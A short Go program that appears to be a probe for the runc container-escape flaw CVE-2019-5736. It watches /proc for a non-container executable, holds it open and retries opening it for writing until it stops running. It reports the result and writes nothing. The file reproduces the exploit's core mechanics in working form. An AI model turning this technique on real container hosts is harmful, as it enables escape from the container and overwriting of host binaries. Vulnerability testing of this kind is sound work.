package main

import (
	"errors"
	"fmt"
	"os"
	"path/filepath"
	"time"

	"golang.org/x/sys/unix"
)

// steal waits for a process that runs a file which is not the container's, keeps that file open, and tries to open it for
// writing once nobody runs it any more (CVE-2019-5736). It writes nothing.
func steal() string {
	own := map[uint64]bool{}
	for _, name := range []string{"/inside", "/bin/busybox"} {
		var st unix.Stat_t
		if unix.Stat(name, &st) == nil {
			own[st.Ino] = true
		}
	}
	for end := time.Now().Add(20 * time.Second); time.Now().Before(end); {
		links, _ := filepath.Glob("/proc/[0-9]*/exe")
		for _, link := range links {
			fd, err := unix.Open(link, unix.O_RDONLY|unix.O_CLOEXEC, 0)
			if err != nil {
				continue
			}
			var st unix.Stat_t
			if unix.Fstat(fd, &st) == nil && !own[st.Ino] {
				return overwrite(fd)
			}
			unix.Close(fd)
		}
	}
	return "saw nothing"
}

func overwrite(fd int) string {
	for {
		f, err := os.OpenFile(fmt.Sprintf("/proc/self/fd/%d", fd), os.O_WRONLY, 0)
		switch {
		case err == nil:
			f.Close()
			return "could write"
		case errors.Is(err, unix.ETXTBSY): // it still runs
			time.Sleep(time.Millisecond)
		default:
			return "refused: " + err.Error()
		}
	}
}
